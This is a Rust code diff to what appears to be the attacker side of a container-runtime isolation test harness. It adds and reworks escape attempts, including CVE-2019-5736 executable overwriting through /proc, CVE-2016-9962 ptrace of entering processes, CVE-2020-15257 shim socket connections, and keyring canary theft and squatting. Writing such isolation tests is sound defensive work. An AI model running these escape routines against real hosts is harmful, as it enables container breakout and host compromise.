@@ -4,6 +4,9 @@ use crate::harness::Context;
 use std::ffi::CString;
 use std::io;
 use std::os::fd::AsRawFd;
+use std::os::unix::process::CommandExt;
+use std::path::Path;
+use std::process::Command;
 
 /// Where the program is in the context.
 const PLACE: &str = "/attacker";
@@ -19,13 +22,24 @@ pub fn args(attack: &str) -> Vec<&str> {
     vec![PLACE, "--attack", attack]
 }
 
+/// The command line that runs `command` with a key in its session keyring: what a caller of the host's may have.
+pub fn with_a_key(command: &Command) -> Command {
+    let mut wrapped = Command::new(std::env::current_exe().unwrap());
+    wrapped.args(["--attack", "with-a-key"]).arg(command.get_program()).args(command.get_args());
+    wrapped.envs(command.get_envs().filter_map(|(name, value)| Some((name, value?))));
+    wrapped
+}
+
 /// Runs an attack if this process was started for one.
 pub fn main() -> Option<()> {
     let mut args = std::env::args().skip(1);
     if args.next()? != "--attack" {
         return None;
     }
-    let result = match args.next()?.as_str() {
+    let attack = args.next()?;
+    let mut more = args;
+    let mut word = || more.next().expect("one more word");
+    let result = match attack.as_str() {
         "overwrite-executables" => overwrite_executables(),
         "trace-newcomers" => trace_newcomers(),
         "type-into-the-terminal" => type_into_the_terminal(),
@@ -34,6 +48,21 @@ pub fn main() -> Option<()> {
         "vsock-socket" => socket(libc::AF_VSOCK),
         "user-namespace" => unshare(libc::CLONE_NEWUSER),
         "keyring" => keyring(),
+        "take-the-key" => take_the_key(),
+        "lay-out-a-keyring" => lay_out_a_keyring(&word()),
+        "with-a-key" => {
+            add_key("caller").unwrap();
+            let error = Command::new(word()).args(more).exec();
+            panic!("not executed: {error}");
+        }
+        "start-others" => start_others(&word()),
+        "nest-groups" => nest_groups(&word()),
+        // SAFETY: asks for an id, and takes nothing.
+        "be-root" => match unsafe { libc::geteuid() } {
+            0 => Ok("root".into()),
+            other => Err(io::Error::other(format!("still {other}"))),
+        },
+        "old-call" => old_call(&word()),
         "bpf" => bpf(),
         "userfaultfd" => userfaultfd(),
         "io-uring" => io_uring(),
@@ -46,16 +75,24 @@ pub fn main() -> Option<()> {
     Some(())
 }
 
+/// A file of the guest's, and not the runtime's.
+fn own_program(path: &Path) -> bool {
+    path.starts_with("/bin") || path.starts_with(PLACE)
+}
+
 fn check(result: libc::c_long) -> io::Result<libc::c_long> {
     if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
 }
 
+/// A race is looked for at least this often.
+const LOOKS: u32 = 10_000;
+
 /// CVE-2019-5736: waits for processes to appear, and opens their executables for writing, again and again.
 fn overwrite_executables() -> io::Result<String> {
-    let mut written = 0;
-    let mut seen = 0;
+    let (mut written, mut seen, mut looks) = (0, 0, 0);
     let mut held = Vec::new();
-    for _ in 0..20_000 {
+    while !Path::new("/stop").exists() || looks < LOOKS {
+        looks += 1;
         for entry in std::fs::read_dir("/proc")?.flatten() {
             let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse::<u32>().ok()) else {
                 continue;
@@ -72,7 +109,7 @@ fn overwrite_executables() -> io::Result<String> {
             let path = format!("/proc/self/fd/{}", file.as_raw_fd());
             let text = std::fs::read_link(&path).unwrap_or_default();
             // Only what is none of the guest's own files is worth the attack.
-            if text.starts_with("/bin") || text.starts_with(PLACE) {
+            if own_program(&text) {
                 return false;
             }
             match std::fs::OpenOptions::new().write(true).open(&path) {
@@ -83,9 +120,6 @@ fn overwrite_executables() -> io::Result<String> {
                 Err(error) => error.raw_os_error() == Some(libc::ETXTBSY),
             }
         });
-        if std::path::Path::new("/stop").exists() {
-            break;
-        }
     }
     println!("seen {seen}");
     if written > 0 {
@@ -98,8 +132,9 @@ fn overwrite_executables() -> io::Result<String> {
 /// CVE-2016-9962: tries to trace whatever enters the context, and to open its descriptors.
 fn trace_newcomers() -> io::Result<String> {
     let own = std::process::id();
-    let mut caught = 0;
-    while !std::path::Path::new("/stop").exists() {
+    let (mut caught, mut looks) = (0, 0);
+    while !Path::new("/stop").exists() || looks < LOOKS {
+        looks += 1;
         for entry in std::fs::read_dir("/proc")?.flatten() {
             let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse::<i32>().ok()) else {
                 continue;
@@ -114,8 +149,7 @@ fn trace_newcomers() -> io::Result<String> {
             // the guest's own after all goes on.
             let attached = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0;
             // It may have become the guest's own program meanwhile, which is anybody's to trace.
-            let foreign =
-                std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| !exe.starts_with("/bin"));
+            let foreign = std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| !own_program(&exe));
             if (attached || files) && foreign {
                 caught += 1;
             }
@@ -163,10 +197,110 @@ fn unshare(flags: i32) -> io::Result<String> {
 }
 
 fn keyring() -> io::Result<String> {
-    let (kind, name) = (CString::new("user").unwrap(), CString::new("attack").unwrap());
-    // SAFETY: two C strings and one byte of payload, all live.
-    let key = unsafe { libc::syscall(libc::SYS_add_key, kind.as_ptr(), name.as_ptr(), b"x".as_ptr(), 1, -3) };
-    check(key).map(|_| "a key".into())
+    add_key("guest").map(|_| "a key".into())
+}
+
+const SESSION: i32 = -3;
+
+fn add_key(content: &str) -> io::Result<libc::c_long> {
+    let (kind, name) = (CString::new("user").unwrap(), CString::new("vctx-canary").unwrap());
+    let (text, length) = (content.as_ptr(), content.len());
+    // SAFETY: two C strings and a payload with its length, all live.
+    check(unsafe { libc::syscall(libc::SYS_add_key, kind.as_ptr(), name.as_ptr(), text, length, SESSION) })
+}
+
+/// Looks in the session keyring for the key that somebody else has put there.
+fn take_the_key() -> io::Result<String> {
+    const SEARCH: i32 = 10;
+    const READ: i32 = 11;
+    let (kind, name) = (CString::new("user").unwrap(), CString::new("vctx-canary").unwrap());
+    let mut content = [0u8; 64];
+    // SAFETY: two live C strings.
+    let key =
+        check(unsafe { libc::syscall(libc::SYS_keyctl, SEARCH, SESSION, kind.as_ptr(), name.as_ptr(), 0) })?;
+    // SAFETY: the kernel writes no more than the length that it is told.
+    let length =
+        check(unsafe { libc::syscall(libc::SYS_keyctl, READ, key, content.as_mut_ptr(), content.len()) })?;
+    Ok(format!("the key of the {}", String::from_utf8_lossy(&content[..length as usize])))
+}
+
+/// Makes a keyring of the name that a runtime may give to the next context's, lets everybody join it, and waits for what
+/// is put there.
+fn lay_out_a_keyring(name: &str) -> io::Result<String> {
+    const JOIN: i32 = 1;
+    const PERMIT: i32 = 5;
+    let name = CString::new(name).unwrap();
+    // SAFETY: a live C string.
+    check(unsafe { libc::syscall(libc::SYS_keyctl, JOIN, name.as_ptr()) })?;
+    // SAFETY: numbers only.
+    check(unsafe { libc::syscall(libc::SYS_keyctl, PERMIT, SESSION, 0x3f3f_3f3f) })?;
+    std::fs::write("/ready", "")?;
+    while !Path::new("/stop").exists() {
+        std::thread::yield_now();
+    }
+    take_the_key()
+}
+
+/// CVE-2020-15257: goes for every socket that this network namespace shows, and sends what `start` would.
+fn start_others(mark: &str) -> io::Result<String> {
+    let mut reached = Vec::new();
+    for line in std::fs::read_to_string("/proc/net/unix")?.lines() {
+        let Some(name) = line.split_whitespace().nth(7).filter(|name| name.contains(mark)) else { continue };
+        // SAFETY: numbers only.
+        let socket =
+            check(i64::from(unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_SEQPACKET, 0) }))? as i32;
+        // SAFETY: all bytes of the address may be zero.
+        let mut address: libc::sockaddr_un = unsafe { std::mem::zeroed() };
+        address.sun_family = libc::AF_UNIX as u16;
+        let bytes = name.bytes().map(|byte| if byte == b'@' { 0 } else { byte });
+        address.sun_path.iter_mut().zip(bytes).for_each(|(to, from)| *to = from as libc::c_char);
+        let length = (2 + name.len()) as libc::socklen_t;
+        // SAFETY: the address is live, and the length is that of its name, which was cut to fit.
+        let connected = unsafe { libc::connect(socket, (&raw const address).cast(), length.min(110)) };
+        // SAFETY: one live byte.
+        if connected == 0 && unsafe { libc::send(socket, [3u8].as_ptr().cast(), 1, 0) } == 1 {
+            reached.push(name.to_owned());
+        }
+    }
+    if reached.is_empty() { Err(io::Error::other("none was reached")) } else { Ok(reached.join(", ")) }
+}
+
+/// Makes groups in groups, until no path can name the last.
+fn nest_groups(place: &str) -> io::Result<String> {
+    let name = "x".repeat(200);
+    std::env::set_current_dir(place)?;
+    for _ in 0..40 {
+        std::fs::create_dir(&name)?;
+        std::env::set_current_dir(&name)?;
+    }
+    Ok("40 groups deep".into())
+}
+
+/// mkdir(2) by the way that 32-bit programs take, which has numbers of its own.
+#[cfg(target_arch = "x86_64")]
+fn old_call(path: &str) -> io::Result<String> {
+    const MKDIR: i32 = 39;
+    let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT;
+    // SAFETY: a new mapping, which nothing else knows; its address has 32 bits, as such a call takes.
+    let place = unsafe { libc::mmap(std::ptr::null_mut(), 4096, 3, flags, -1, 0) };
+    assert_ne!(place, libc::MAP_FAILED);
+    // SAFETY: the mapping is larger than the path, and zeroed behind it.
+    unsafe { std::ptr::copy_nonoverlapping(path.as_ptr(), place.cast(), path.len()) };
+    let result: i32;
+    // SAFETY: the call reads a C string; rbx, which the compiler keeps for itself, is put back.
+    unsafe {
+        std::arch::asm!(
+            "xchg rbx, {path}", "int 0x80", "xchg rbx, {path}",
+            path = inout(reg) place as u64 => _, inout("eax") MKDIR => result, in("ecx") 0o755,
+        );
+    }
+    if result < 0 { Err(io::Error::from_raw_os_error(-result)) } else { Ok("a folder".into()) }
+}
+
+/// Other architectures have one way.
+#[cfg(not(target_arch = "x86_64"))]
+fn old_call(_: &str) -> io::Result<String> {
+    Err(io::Error::from(io::ErrorKind::Unsupported))
 }
 
 fn bpf() -> io::Result<String> {
